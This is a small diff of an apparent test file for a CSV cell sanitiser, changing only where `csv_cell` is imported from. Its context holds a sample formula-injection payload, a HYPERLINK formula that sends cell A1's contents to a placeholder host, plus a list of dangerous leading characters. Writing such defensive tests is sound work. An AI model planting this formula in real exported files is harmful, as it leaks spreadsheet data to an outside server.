@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from companion.web.tables import csv_cell
+from companion.web.downloads import csv_cell
 
 EVIL = '=HYPERLINK("http://e.vil/?"&A1,"x")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
